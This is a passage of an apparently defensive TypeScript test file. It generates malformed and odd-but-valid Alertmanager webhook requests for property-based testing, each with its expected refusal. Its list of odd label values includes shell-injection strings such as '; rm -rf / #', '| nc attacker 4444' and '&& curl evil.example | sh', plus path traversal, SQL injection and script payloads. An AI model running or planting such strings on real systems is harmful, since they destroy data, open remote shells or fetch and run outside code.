/**
 * fast-check arbitraries for the webhook's hostile-input suite: requests the webhook
 * must refuse, each tagged with the kind of badness and the exact answer it must get,
 * and valid-but-weird Alertmanager bodies it must accept and deliver intact.
 *
 * How a bad request is made, so that it is bad for certain (and the property is right):
 * - a body-level case starts from a body that is valid under src/ingest/payload.ts and
 *   breaks exactly one rule of it, so only one rule can refuse it and the answer, down to
 *   the JSON path it names, is known in advance;
 * - "broken JSON" is checked against JSON.parse itself, invalid UTF-8 against a strict
 *   TextDecoder (the platform, not the code under test);
 * - HTTP-level cases (credentials, content-type header, size, route) send any body,
 *   valid ones included: a valid alert refused there must not be delivered either.
 *
 * Strings in the good set are well-formed Unicode (no unpaired surrogate): everything
 * else there is fair game, control characters and NUL included.
 */
import fc from 'fast-check'
import type { AlertRecord } from '../../src/contracts/records'
import { ERROR_CODES } from '../../src/errors'
import { DEFAULT_BODY_LIMIT_BYTES, WEBHOOK_PATH } from '../../src/http'
import { DEFAULT_WEBHOOK_LIMITS } from '../../src/ingest'

type Json = Record<string, unknown>

/** The kind of badness of a {@link HostileRequest}. */
export type HostileKind =
  | 'broken-json'
  | 'empty-body'
  | 'wrong-top-level-type'
  | 'wrong-field-type'
  | 'missing-field'
  | 'bad-enum'
  | 'bad-timestamp'
  | 'huge-labels'
  | 'deep-nesting'
  | 'invalid-utf8'
  | 'lone-surrogate'
  | 'invalid-name'
  | 'record-too-large'
  | 'oversize'
  | 'bad-content-type'
  | 'bad-credentials'
  | 'wrong-route'

/**
 * Where the webhook refuses a request. Only `body` (the payload validator) and `record`
 * (the publisher: a record Kafka would refuse) have read the whole body, and only they
 * write a dead letter.
 */
export type RefusalStage = 'route' | 'auth' | 'content-type' | 'size' | 'body' | 'record'

/** The answer a bad request must get. */
export interface ExpectedRefusal {
  stage: RefusalStage
  status: number
  code: string
  /** The whole `error.message` of the answer (anchored at both ends). */
  message: RegExp
  /** Whether the raw body must be on the DLQ afterwards. */
  deadLetter: boolean
}

/** One HTTP request, as the suite sends it. */
export interface WireRequest {
  method: string
  path: string
  /** Request headers; no content-type here means none is sent. */
  headers: Record<string, string>
  body: Buffer
  /** Sent as a chunked stream (no content-length), else in one piece. */
  chunked: boolean
}

/** A request the webhook must refuse. */
export interface HostileRequest extends WireRequest {
  kind: HostileKind
  /** What is wrong with it, for failure reports. */
  what: string
  expected: ExpectedRefusal
}

/** Limits the generators aim at: the webhook's defaults. */
export const HOSTILE_LIMITS = Object.freeze({
  ...DEFAULT_WEBHOOK_LIMITS,
  bodyLimitBytes: DEFAULT_BODY_LIMIT_BYTES,
  /** KafkaIngestPublisher's default maxRecordBytes. */
  maxRecordBytes: 1_000_000,
  /** Longest startsAt / endsAt string. */
  maxTimestampLength: 64,
  maxFingerprintLength: 64,
})

const INVALID = 'invalid Alertmanager webhook payload: '
const NOT_UTF8 = 'malformed JSON: the body is not valid UTF-8'
const LONE_SURROGATE_PROBLEM = 'is not well-formed Unicode: it has an unpaired surrogate (\\ud800-\\udfff escape)'
/** An ASCII marker put in a string and later replaced by raw text or bytes. */
const MARK = 'Hx7Mark9q'

// ---------------------------------------------------------------------------
// Small helpers
// ---------------------------------------------------------------------------

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')
}

/** A pattern for exactly `text`. */
export function exactly(text: string): RegExp {
  return new RegExp(`^${escapeRegExp(text)}$`)
}

/** A pattern for `prefix`, anything, then `suffix`. */
function between(prefix: string, suffix = ''): RegExp {
  return new RegExp(`^${escapeRegExp(prefix)}[\\s\\S]*${escapeRegExp(suffix)}$`)
}

/** A JSON pointer segment (RFC 6901), as ajv writes instance paths. */
export function pointerSegment(name: string): string {
  return name.replace(/~/g, '~0').replace(/\//g, '~1')
}

/** Sets an own property, even `__proto__`. */
function define(target: Json, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true })
}

/** A deep copy through JSON (which keeps a `__proto__` key as data). */
function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T
}

/** The type name the validator reports for a JSON value ("got …"). */
function jsonTypeName(value: unknown): string {
  if (value === null) return 'null'
  if (Array.isArray(value)) return 'array'
  return typeof value
}

/** Code points of `text` (what ajv's maxLength counts). */
function codePoints(text: string): number {
  let n = 0
  for (const _ of text) n++
  return n
}

const utf8 = new TextDecoder('utf-8', { fatal: true })

/** Whether `bytes` are valid UTF-8 and that text parses as JSON. */
export function parsesAsJson(bytes: Buffer): boolean {
  try {
    JSON.parse(utf8.decode(bytes))
    return true
  } catch {
    return false
  }
}

function isUtf8(bytes: Uint8Array): boolean {
  try {
    utf8.decode(bytes)
    return true
  } catch {
    return false
  }
}

function daysInMonth(year: number, month: number): number {
  if (month === 2) return (year % 4 === 0 && year % 100 !== 0) || year % 400 === 0 ? 29 : 28
  return [4, 6, 9, 11].includes(month) ? 30 : 31
}

const pad = (n: number, width = 2) => String(n).padStart(width, '0')

/** JSON text with every non-ASCII UTF-16 unit written as a \uXXXX escape (as some senders do). */
function asciiEscaped(json: string): string {
  return json.replace(/[\u007f-\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
}

// ---------------------------------------------------------------------------
// Strings: plain, and valid-but-weird
// ---------------------------------------------------------------------------

/**
 * Valid but hostile-looking text: control characters, NUL, path traversal, shell and
 * template metacharacters, bidi overrides, zero-width and combining characters,
 * astral-plane characters, prototype names. All of it is a legal label name or value.
 */
export const WEIRD_SNIPPETS: readonly string[] = Object.freeze([
  '\u0000',
  'nul\u0000byte',
  '\u0001\u0002\u0003\u001f\u007f',
  '\r\n',
  'line\nbreak',
  '\ttab',
  '\u001b[31mred\u001b[0m',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/',
  '~',
  '~1/~0',
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc attacker 4444',
  '&& curl evil.example | sh',
  '${IFS}',
  "' OR 1=1 --",
  '"',
  '\\',
  '\\u0000',
  '%s%n%x',
  '{{ .Labels.alertname }}',
  '<script>alert(1)</script>',
  '\u202eevil\u202c',
  '\u202dltr',
  '\u200b\u200c\u200d\u2060',
  '\ufeff',
  '\u2028\u2029',
  '\u00a0',
  'e\u0301\u0301\u0301',
  '😀🔥',
  '👩‍👩‍👧‍👦',
  '𝕏𝔸',
  '\u{10ffff}',
  '\ufffd',
  'Ünïcödé',
  'ﷺ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  ' ',
  'null',
  'true',
  '0',
  '-1',
  '[]',
  '{}',
])

const plainName = fc.stringMatching(/^[a-zA-Z_][a-zA-Z0-9_]{0,15}$/)
const weirdSnippet = fc.constantFrom(...WEIRD_SNIPPETS)
/** Any well-formed Unicode (fast-check's `binary` unit never yields a lone surrogate). */
const anyUnicode = (minLength: number, maxLength: number) => fc.string({ unit: 'binary', minLength, maxLength })

/** Text that is valid wherever a string is: short, often weird. */
const weirdText = fc.oneof(
  { weight: 3, arbitrary: plainName },
  { weight: 3, arbitrary: weirdSnippet },
  { weight: 2, arbitrary: anyUnicode(0, 24) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(weirdSnippet, plainName), { minLength: 2, maxLength: 4 })
      .map((parts) => parts.join('')),
  },
)

/** A valid label or annotation name: non-empty, short, often weird. */
const labelName = fc.oneof(
  { weight: 4, arbitrary: plainName },
  { weight: 3, arbitrary: weirdSnippet },
  { weight: 2, arbitrary: anyUnicode(1, 20) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.oneof(weirdSnippet, plainName), { minLength: 2, maxLength: 3 })
      .map((parts) => parts.join('')),
  },
)

/** A label map with `min`..`max` valid entries. */
function labelMap(min: number, max: number, name = labelName, value = weirdText): fc.Arbitrary<Record<string, string>> {
  return fc
    .uniqueArray(fc.tuple(name, value), { selector: ([n]) => n, minLength: min, maxLength: max })
    .map((entries) => Object.fromEntries(entries))
}

// ---------------------------------------------------------------------------
// RFC 3339 timestamps, valid and not
// ---------------------------------------------------------------------------

interface TimeParts {
  year: number
  month: number
  day: number
  hour: number
  minute: number
  second: number
  fraction: string
  separator: string
  zone: string
}

const validParts: fc.Arbitrary<TimeParts> = fc
  .record({
    year: fc.integer({ min: 0, max: 9999 }),
    month: fc.integer({ min: 1, max: 12 }),
    day: fc.integer({ min: 1, max: 31 }),
    hour: fc.integer({ min: 0, max: 23 }),
    minute: fc.integer({ min: 0, max: 59 }),
    second: fc.integer({ min: 0, max: 59 }),
    fraction: fc.oneof(fc.constant(''), fc.stringMatching(/^\.[0-9]{1,9}$/)),
    separator: fc.constantFrom('T', 't'),
    zone: fc.oneof(
      fc.constantFrom('Z', 'z'),
      fc
        .tuple(fc.constantFrom('+', '-'), fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }))
        .map(([s, h, m]) => `${s}${pad(h)}:${pad(m)}`),
    ),
  })
  .map((p) => ({ ...p, day: Math.min(p.day, daysInMonth(p.year, p.month)) }))

function renderTime(p: TimeParts, year = pad(p.year, 4)): string {
  return `${year}-${pad(p.month)}-${pad(p.day)}${p.separator}${pad(p.hour)}:${pad(p.minute)}:${pad(p.second)}${p.fraction}${p.zone}`
}

/** A valid RFC 3339 date-time (lowercase t/z, offsets and 1–9 fraction digits included). */
export const rfc3339 = validParts.map((p) => renderTime(p))

/** A string of at most 64 characters that is not an RFC 3339 date-time, and what breaks it. */
const invalidTimestamp: fc.Arbitrary<[string, string]> = fc.oneof(
  fc
    .tuple(validParts, fc.oneof(fc.constant(0), fc.integer({ min: 13, max: 99 })))
    .map(([p, month]): [string, string] => [renderTime({ ...p, month }), `month ${month}`]),
  fc
    .tuple(validParts, fc.oneof(fc.constant(0), fc.integer({ min: 32, max: 99 })))
    .map(([p, day]): [string, string] => [renderTime({ ...p, day }), `day ${day}`]),
  // A day one past the end of its month: Feb 29 of a common year, Apr 31, …
  fc
    .tuple(validParts, fc.nat())
    .filter(([p]) => daysInMonth(p.year, p.month) < 31)
    .map(([p, n]): [string, string] => {
      const day = daysInMonth(p.year, p.month) + 1 + (n % (31 - daysInMonth(p.year, p.month)))
      return [renderTime({ ...p, day }), `day ${day} of month ${p.month} of ${p.year}`]
    }),
  fc
    .tuple(validParts, fc.integer({ min: 24, max: 99 }))
    .map(([p, hour]): [string, string] => [renderTime({ ...p, hour }), `hour ${hour}`]),
  fc
    .tuple(validParts, fc.integer({ min: 60, max: 99 }))
    .map(([p, minute]): [string, string] => [renderTime({ ...p, minute }), `minute ${minute}`]),
  fc
    .tuple(validParts, fc.integer({ min: 60, max: 99 }))
    .map(([p, second]): [string, string] => [renderTime({ ...p, second }), `second ${second} (leap seconds too)`]),
  fc
    .tuple(validParts, fc.integer({ min: 24, max: 99 }), fc.integer({ min: 0, max: 59 }))
    .map(([p, h, m]): [string, string] => [renderTime({ ...p, zone: `+${pad(h)}:${pad(m)}` }), `offset hour ${h}`]),
  fc
    .tuple(validParts, fc.integer({ min: 60, max: 99 }))
    .map(([p, m]): [string, string] => [renderTime({ ...p, zone: `-01:${pad(m)}` }), `offset minute ${m}`]),
  fc
    .tuple(validParts, fc.constantFrom('', 'UTC', 'GMT', '+0100', '+01', 'Z+01:00', '+1:00', ' Z'))
    .map(([p, zone]): [string, string] => [renderTime({ ...p, zone }), `zone ${JSON.stringify(zone)}`]),
  fc
    .tuple(validParts, fc.constantFrom(' ', '_', 'X', '', 'TT'))
    .map(([p, separator]): [string, string] => [
      renderTime({ ...p, separator }),
      `separator ${JSON.stringify(separator)}`,
    ]),
  fc
    .tuple(validParts, fc.constantFrom('.', ',5', '.1234567890', '.123456789012'))
    .map(([p, fraction]): [string, string] => [renderTime({ ...p, fraction }), `fraction ${JSON.stringify(fraction)}`]),
  fc
    .tuple(validParts, fc.constantFrom('26', '202', '20260', '+2026', '-002'))
    .map(([p, year]): [string, string] => [renderTime(p, year), `year ${year}`]),
  fc
    .tuple(rfc3339, fc.constantFrom(' ', '\n', '\t', 'x', '\u0000', '\u00a0'))
    .map(([t, extra]): [string, string] => [`${t}${extra}`, `trailing ${JSON.stringify(extra)}`]),
  fc
    .tuple(rfc3339, fc.constantFrom(' ', '\n', 'x'))
    .map(([t, extra]): [string, string] => [`${extra}${t}`, `leading ${JSON.stringify(extra)}`]),
  rfc3339.map((t): [string, string] => [t.slice(0, 10), 'date only']),
  rfc3339.map((t): [string, string] => [t.slice(11), 'time only']),
  fc
    .constantFrom(
      '',
      'yesterday',
      'now',
      '1795567954',
      '1795567954000',
      'Tue, 25 Nov 2026 00:52:34 GMT',
      '2026/11/25 00:52:34',
      'NaN',
      'null',
    )
    .map((t): [string, string] => [t, 'not a date']),
  // No digit at all: never a date.
  anyUnicode(0, 30)
    .filter((t) => !/[0-9]/.test(t))
    .map((t): [string, string] => [t, 'random text']),
)

// ---------------------------------------------------------------------------
// Valid bodies (the base every body-level case breaks)
// ---------------------------------------------------------------------------

const status = fc.constantFrom('firing', 'resolved')
const fingerprintText = fc.oneof(
  fc.stringMatching(/^[0-9a-f]{16}$/),
  fc.constantFrom('', 'not-hex', 'ABCDEF0123456789', '0123'),
)

const validAlert: fc.Arbitrary<Json> = fc.record(
  {
    status,
    labels: labelMap(1, 5),
    annotations: labelMap(0, 3),
    startsAt: rfc3339,
    endsAt: rfc3339,
    generatorURL: weirdText,
    fingerprint: fingerprintText,
  },
  { requiredKeys: ['status', 'labels', 'startsAt'] },
)

/** A valid webhook body (1–4 alerts), as the base of body-level cases. */
export const validBody: fc.Arbitrary<Json> = fc.record(
  {
    version: fc.constant('4'),
    status,
    receiver: weirdText,
    groupKey: weirdText,
    externalURL: weirdText,
    truncatedAlerts: fc.nat(),
    groupLabels: labelMap(0, 3),
    commonLabels: labelMap(0, 3),
    commonAnnotations: labelMap(0, 3),
    alerts: fc.array(validAlert, { minLength: 1, maxLength: 4 }),
  },
  { requiredKeys: ['version', 'status', 'alerts'] },
)

function alertsOf(body: Json): Json[] {
  return body.alerts as Json[]
}

/** Alert `n mod count` of `body`, and its index. */
function pickAlert(body: Json, n: number): [Json, number] {
  const alerts = alertsOf(body)
  const i = n % alerts.length
  return [alerts[i]!, i]
}

/** The map at `key` of `owner`, created empty when absent. */
function mapAt(owner: Json, key: string): Json {
  if (typeof owner[key] !== 'object' || owner[key] === null) define(owner, key, {})
  return owner[key] as Json
}

// ---------------------------------------------------------------------------
// Body-level cases: each breaks exactly one rule of the payload validator
// ---------------------------------------------------------------------------

/** A body the payload validator must refuse, with the message it must give. */
export interface BadBody {
  kind: HostileKind
  what: string
  body: Buffer
  message: RegExp
}

const serialize = (body: unknown): Buffer => Buffer.from(JSON.stringify(body), 'utf8')

/** Where a string-typed field sits: top-level text, an alert's text, or a map value. */
type TextSlot =
  | 'receiver'
  | 'groupKey'
  | 'externalURL'
  | 'generatorURL'
  | 'label'
  | 'annotation'
  | 'commonLabel'
  | 'groupLabel'
  | 'commonAnnotation'

const textSlot = fc.constantFrom<TextSlot>(
  'receiver',
  'groupKey',
  'externalURL',
  'generatorURL',
  'label',
  'label',
  'label',
  'annotation',
  'commonLabel',
  'groupLabel',
  'commonAnnotation',
)

/**
 * Puts `value` at a string-typed field of `body` (name `name` for a map slot); returns
 * the JSON path the validator names for it.
 */
function putText(body: Json, slot: TextSlot, n: number, name: string, value: unknown): string {
  const [alert, i] = pickAlert(body, n)
  switch (slot) {
    case 'receiver':
    case 'groupKey':
    case 'externalURL':
      define(body, slot, value)
      return `/${slot}`
    case 'generatorURL':
      define(alert, slot, value)
      return `/alerts/${i}/generatorURL`
    case 'label':
      define(mapAt(alert, 'labels'), name, value)
      return `/alerts/${i}/labels/${pointerSegment(name)}`
    case 'annotation':
      define(mapAt(alert, 'annotations'), name, value)
      return `/alerts/${i}/annotations/${pointerSegment(name)}`
    case 'commonLabel':
      define(mapAt(body, 'commonLabels'), name, value)
      return `/commonLabels/${pointerSegment(name)}`
    case 'groupLabel':
      define(mapAt(body, 'groupLabels'), name, value)
      return `/groupLabels/${pointerSegment(name)}`
    case 'commonAnnotation':
      define(mapAt(body, 'commonAnnotations'), name, value)
      return `/commonAnnotations/${pointerSegment(name)}`
  }
}

/** Where a name-checked map sits; returns the map and its path. */
type MapSlot = 'labels' | 'annotations' | 'groupLabels' | 'commonLabels' | 'commonAnnotations'
const mapSlot = fc.constantFrom<MapSlot>(
  'labels',
  'labels',
  'labels',
  'annotations',
  'groupLabels',
  'commonLabels',
  'commonAnnotations',
)

function mapFor(body: Json, slot: MapSlot, n: number): [Json, string] {
  if (slot === 'labels' || slot === 'annotations') {
    const [alert, i] = pickAlert(body, n)
    return [mapAt(alert, slot), `/alerts/${i}/${slot}`]
  }
  return [mapAt(body, slot), `/${slot}`]
}

/** A JSON value that is not of `type` (as the validator sees it after a JSON round trip). */
function notOfType(type: 'string' | 'object' | 'array' | 'integer'): fc.Arbitrary<unknown> {
  return fc
    .jsonValue({ maxDepth: 2 })
    .map((v) => clone(v))
    .filter((v) => {
      switch (type) {
        case 'string':
          return typeof v !== 'string'
        case 'object':
          return typeof v !== 'object' || v === null || Array.isArray(v)
        case 'array':
          return !Array.isArray(v)
        case 'integer':
          return !Number.isInteger(v)
      }
    })
}

const typeMessage = (path: string, type: string, value: unknown) =>
  exactly(`${INVALID}${path} must be ${type}, got ${jsonTypeName(value)}`)

const wrongFieldType: fc.Arbitrary<BadBody> = fc.oneof(
  // Top-level fields.
  fc
    .tuple(validBody, fc.constantFrom('version', 'status', 'receiver', 'groupKey', 'externalURL'), notOfType('string'))
    .map(([base, key, value]) => {
      const body = clone(base)
      define(body, key, value)
      return {
        kind: 'wrong-field-type' as const,
        what: `/${key} is ${jsonTypeName(value)}`,
        body: serialize(body),
        message: typeMessage(`/${key}`, 'string', value),
      }
    }),
  fc.tuple(validBody, notOfType('array')).map(([base, value]) => {
    const body = clone(base)
    define(body, 'alerts', value)
    return {
      kind: 'wrong-field-type' as const,
      what: `/alerts is ${jsonTypeName(value)}`,
      body: serialize(body),
      message: typeMessage('/alerts', 'array', value),
    }
  }),
  fc
    .tuple(validBody, fc.constantFrom('groupLabels', 'commonLabels', 'commonAnnotations'), notOfType('object'))
    .map(([base, key, value]) => {
      const body = clone(base)
      define(body, key, value)
      return {
        kind: 'wrong-field-type' as const,
        what: `/${key} is ${jsonTypeName(value)}`,
        body: serialize(body),
        message: typeMessage(`/${key}`, 'object', value),
      }
    }),
  fc.tuple(validBody, notOfType('integer')).map(([base, value]) => {
    const body = clone(base)
    define(body, 'truncatedAlerts', value)
    return {
      kind: 'wrong-field-type' as const,
      what: `/truncatedAlerts is ${JSON.stringify(value)}`,
      body: serialize(body),
      message: typeMessage('/truncatedAlerts', 'integer', value),
    }
  }),
  fc.tuple(validBody, fc.integer({ min: -1e15, max: -1 })).map(([base, value]) => {
    const body = clone(base)
    define(body, 'truncatedAlerts', value)
    return {
      kind: 'wrong-field-type' as const,
      what: `/truncatedAlerts is ${value}`,
      body: serialize(body),
      message: exactly(`${INVALID}/truncatedAlerts must be >= 0`),
    }
  }),
  // An alert's fields, and the alert itself.
  fc.tuple(validBody, fc.nat(), notOfType('object')).map(([base, n, value]) => {
    const body = clone(base)
    const i = n % alertsOf(body).length
    alertsOf(body)[i] = value as Json
    return {
      kind: 'wrong-field-type' as const,
      what: `/alerts/${i} is ${jsonTypeName(value)}`,
      body: serialize(body),
      message: typeMessage(`/alerts/${i}`, 'object', value),
    }
  }),
  fc
    .tuple(
      validBody,
      fc.nat(),
      fc.constantFrom('status', 'startsAt', 'endsAt', 'generatorURL', 'fingerprint'),
      notOfType('string'),
    )
    .map(([base, n, key, value]) => {
      const body = clone(base)
      const [alert, i] = pickAlert(body, n)
      define(alert, key, value)
      return {
        kind: 'wrong-field-type' as const,
        what: `/alerts/${i}/${key} is ${jsonTypeName(value)}`,
        body: serialize(body),
        message: typeMessage(`/alerts/${i}/${key}`, 'string', value),
      }
    }),
  fc
    .tuple(validBody, fc.nat(), fc.constantFrom('labels', 'annotations'), notOfType('object'))
    .map(([base, n, key, value]) => {
      const body = clone(base)
      const [alert, i] = pickAlert(body, n)
      define(alert, key, value)
      return {
        kind: 'wrong-field-type' as const,
        what: `/alerts/${i}/${key} is ${jsonTypeName(value)}`,
        body: serialize(body),
        message: typeMessage(`/alerts/${i}/${key}`, 'object', value),
      }
    }),
  // A label (annotation, common label, …) value that is not a string.
  fc
    .tuple(
      validBody,
      textSlot.filter((s) => s !== 'receiver' && s !== 'groupKey' && s !== 'externalURL' && s !== 'generatorURL'),
      fc.nat(),
      labelName,
      notOfType('string'),
    )
    .map(([base, slot, n, name, value]) => {
      const body = clone(base)
      const path = putText(body, slot, n, name, value)
      return {
        kind: 'wrong-field-type' as const,
        what: `${path} is ${jsonTypeName(value)}`,
        body: serialize(body),
        message: typeMessage(path, 'string', value),
      }
    }),
)

const missingField: fc.Arbitrary<BadBody> = fc.oneof(
  fc.tuple(validBody, fc.constantFrom('version', 'status', 'alerts')).map(([base, key]) => {
    const body = clone(base)
    delete body[key]
    return {
      kind: 'missing-field' as const,
      what: `no /${key}`,
      body: serialize(body),
      message: exactly(`${INVALID}body must have required property '${key}'`),
    }
  }),
  fc.tuple(validBody, fc.nat(), fc.constantFrom('status', 'labels', 'startsAt')).map(([base, n, key]) => {
    const body = clone(base)
    const [alert, i] = pickAlert(body, n)
    delete alert[key]
    return {
      kind: 'missing-field' as const,
      what: `no /alerts/${i}/${key}`,
      body: serialize(body),
      message: exactly(`${INVALID}/alerts/${i} must have required property '${key}'`),
    }
  }),
)

/** A string that is not `firing` or `resolved`. */
const notAStatus = fc
  .oneof(
    fc.constantFrom(
      'pending',
      'FIRING',
      'Firing',
      'firing ',
      ' resolved',
      'resolved\n',
      '',
      'inactive',
      'suppressed',
      'active',
      'firing\u0000',
      'ﬁring',
    ),
    anyUnicode(0, 80),
  )
  .filter((s) => s !== 'firing' && s !== 'resolved')

const badEnum: fc.Arbitrary<BadBody> = fc.oneof(
  fc.tuple(validBody, notAStatus).map(([base, value]) => {
    const body = clone(base)
    define(body, 'status', value)
    return {
      kind: 'bad-enum' as const,
      what: `/status is ${JSON.stringify(value)}`,
      body: serialize(body),
      message: between(`${INVALID}/status must be one of "firing", "resolved", got `),
    }
  }),
  fc.tuple(validBody, fc.nat(), notAStatus).map(([base, n, value]) => {
    const body = clone(base)
    const [alert, i] = pickAlert(body, n)
    define(alert, 'status', value)
    return {
      kind: 'bad-enum' as const,
      what: `/alerts/${i}/status is ${JSON.stringify(value)}`,
      body: serialize(body),
      message: between(`${INVALID}/alerts/${i}/status must be one of "firing", "resolved", got `),
    }
  }),
  fc
    .tuple(
      validBody,
      fc.oneof(fc.constantFrom('3', '5', '4 ', ' 4', '4.0', '04', 'v4', '', '４', '4\u0000'), anyUnicode(0, 10)),
    )
    .filter(([, v]) => v !== '4')
    .map(([base, value]) => {
      const body = clone(base)
      define(body, 'version', value)
      return {
        kind: 'bad-enum' as const,
        what: `/version is ${JSON.stringify(value)}`,
        body: serialize(body),
        message: between(`${INVALID}/version must be "4", got `),
      }
    }),
)

const badTimestamp: fc.Arbitrary<BadBody> = fc.oneof(
  fc
    .tuple(validBody, fc.nat(), fc.constantFrom('startsAt', 'endsAt'), invalidTimestamp)
    .map(([base, n, key, [value, why]]) => {
      const body = clone(base)
      const [alert, i] = pickAlert(body, n)
      define(alert, key, value)
      return {
        kind: 'bad-timestamp' as const,
        what: `/alerts/${i}/${key} is ${JSON.stringify(value)} (${why})`,
        body: serialize(body),
        message: between(`${INVALID}/alerts/${i}/${key} must be an RFC 3339 date-time, got `),
      }
    }),
  fc
    .tuple(validBody, fc.nat(), fc.constantFrom('startsAt', 'endsAt'), rfc3339, fc.integer({ min: 1, max: 200 }))
    .map(([base, n, key, t, extra]) => {
      const body = clone(base)
      const [alert, i] = pickAlert(body, n)
      const value = `${t}${'0'.repeat(Math.max(extra, HOSTILE_LIMITS.maxTimestampLength + 1 - t.length))}`
      define(alert, key, value)
      return {
        kind: 'bad-timestamp' as const,
        what: `/alerts/${i}/${key} is ${value.length} characters`,
        body: serialize(body),
        message: exactly(`${INVALID}/alerts/${i}/${key} is longer than 64 characters`),
      }
    }),
)

/** A string of exactly `length` code points, made of `unit` (one code point) repeated. */
const longText = (min: number, max: number) =>
  fc
    .tuple(fc.constantFrom('x', 'é', '€', '😀', '\u0000', '\u202e', ' '), fc.integer({ min, max }))
    .map(([unit, length]) => unit.repeat(length))

const hugeLabels: fc.Arbitrary<BadBody> = fc.oneof(
  // Too many entries in one map.
  fc
    .tuple(
      validBody,
      mapSlot,
      fc.nat(),
      fc.integer({ min: HOSTILE_LIMITS.maxLabels + 1, max: 600 }),
      fc.constantFrom('l', 'label_', 'a.b/', '😀'),
    )
    .map(([base, slot, n, count, prefix]) => {
      const body = clone(base)
      const [map, path] = mapFor(body, slot, n)
      for (let k = 0; Object.keys(map).length < count; k++) define(map, `${prefix}${k}`, `v${k}`)
      return {
        kind: 'huge-labels' as const,
        what: `${path} has ${count} entries`,
        body: serialize(body),
        message: exactly(`${INVALID}${path} has more than 128 entries`),
      }
    }),
  // Too many alerts.
  fc.tuple(validBody, fc.integer({ min: HOSTILE_LIMITS.maxAlerts + 1, max: 1500 })).map(([base, count]) => {
    const body = clone(base)
    const template = alertsOf(body)[0]!
    define(
      body,
      'alerts',
      Array.from({ length: count }, () => template),
    )
    return {
      kind: 'huge-labels' as const,
      what: `${count} alerts`,
      body: serialize(body),
      message: exactly(`${INVALID}/alerts has more than 1000 items`),
    }
  }),
  // A value longer than the limit (in code points, as ajv counts).
  fc
    .tuple(validBody, textSlot, fc.nat(), labelName, longText(HOSTILE_LIMITS.maxValueLength + 1, 150_000))
    .map(([base, slot, n, name, value]) => {
      const body = clone(base)
      const path = putText(body, slot, n, name, value)
      return {
        kind: 'huge-labels' as const,
        what: `${path} is ${codePoints(value)} characters`,
        body: serialize(body),
        message: exactly(`${INVALID}${path} is longer than 16384 characters`),
      }
    }),
  // A name longer than the limit.
  fc
    .tuple(validBody, mapSlot, fc.nat(), longText(HOSTILE_LIMITS.maxNameLength + 1, 20_000))
    .map(([base, slot, n, name]) => {
      const body = clone(base)
      const [map, path] = mapFor(body, slot, n)
      define(map, name, 'v')
      return {
        kind: 'huge-labels' as const,
        what: `a name of ${codePoints(name)} characters in ${path}`,
        body: serialize(body),
        message: between(`${INVALID}${path} has an invalid name "`, ` (must NOT have more than 1024 characters)`),
      }
    }),
  // A fingerprint longer than 64.
  fc.tuple(validBody, fc.nat(), longText(HOSTILE_LIMITS.maxFingerprintLength + 1, 5000)).map(([base, n, value]) => {
    const body = clone(base)
    const [alert, i] = pickAlert(body, n)
    define(alert, 'fingerprint', value)
    return {
      kind: 'huge-labels' as const,
      what: `/alerts/${i}/fingerprint is ${codePoints(value)} characters`,
      body: serialize(body),
      message: exactly(`${INVALID}/alerts/${i}/fingerprint is longer than 64 characters`),
    }
  }),
)

const invalidName: fc.Arbitrary<BadBody> = fc.oneof(
  fc.tuple(validBody, mapSlot, fc.nat()).map(([base, slot, n]) => {
    const body = clone(base)
    const [map, path] = mapFor(body, slot, n)
    define(map, '', 'v')
    return {
      kind: 'invalid-name' as const,
      what: `an empty name in ${path}`,
      body: serialize(body),
      message: exactly(`${INVALID}${path} has an invalid name "" (must NOT have fewer than 1 characters)`),
    }
  }),
  fc.tuple(validBody, fc.nat()).map(([base, n]) => {
    const body = clone(base)
    const [alert, i] = pickAlert(body, n)
    define(alert, 'labels', {})
    return {
      kind: 'invalid-name' as const,
      what: `/alerts/${i}/labels is empty`,
      body: serialize(body),
      message: exactly(`${INVALID}/alerts/${i}/labels must not be empty`),
    }
  }),
)

const wrongTopLevelType: fc.Arbitrary<BadBody> = fc
  .oneof(
    fc.array(fc.oneof(validAlert, fc.jsonValue({ maxDepth: 2 })), { maxLength: 4 }),
    validBody.map((b) => [b]),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
    fc.constantFrom(null, true, false, 0, -0, 1e308, '4', 'firing', ''),
    weirdText,
  )
  .map((value) => {
    const body = clone(value)
    return {
      kind: 'wrong-top-level-type' as const,
      what: `the body is ${jsonTypeName(body)} ${JSON.stringify(body).slice(0, 40)}`,
      body: serialize(body),
      message: exactly(`${INVALID}body must be object, got ${jsonTypeName(body)}`),
    }
  })

/** Deeply nested arrays or objects in place of a value. */
const deepNesting: fc.Arbitrary<BadBody> = fc
  .tuple(
    validBody,
    fc.constantFrom('top', 'label', 'alert', 'version', 'alerts-item', 'unclosed'),
    fc.constantFrom('array', 'object'),
    fc.oneof(fc.constant(10_000), fc.integer({ min: 1000, max: 100_000 }), fc.constant(500_000)),
    fc.nat(),
    labelName,
  )
  .map(([base, where, shape, levels, n, name]) => {
    // 2 bytes a level for arrays, 6 for objects: at most ~1 MB, under the body limit with the rest.
    const depth = shape === 'array' ? levels : Math.min(levels, 150_000)
    const nested =
      shape === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}0${'}'.repeat(depth)}`
    const body = clone(base)
    const placeholder = JSON.stringify(MARK)
    const what = `${depth} nested ${shape}s`
    const withNested = (text: string) =>
      Buffer.from(
        text.replace(placeholder, () => nested),
        'utf8',
      )
    switch (where) {
      case 'top':
        return {
          kind: 'deep-nesting' as const,
          what: `${what} as the body`,
          body: Buffer.from(nested),
          message: exactly(
            shape === 'array'
              ? `${INVALID}body must be object, got array`
              : `${INVALID}body must have required property 'version'`,
          ),
        }
      case 'label': {
        const path = putText(body, 'label', n, name, MARK)
        return {
          kind: 'deep-nesting' as const,
          what: `${what} at ${path}`,
          body: withNested(JSON.stringify(body)),
          message: typeMessage(path, 'string', shape === 'array' ? [] : {}),
        }
      }
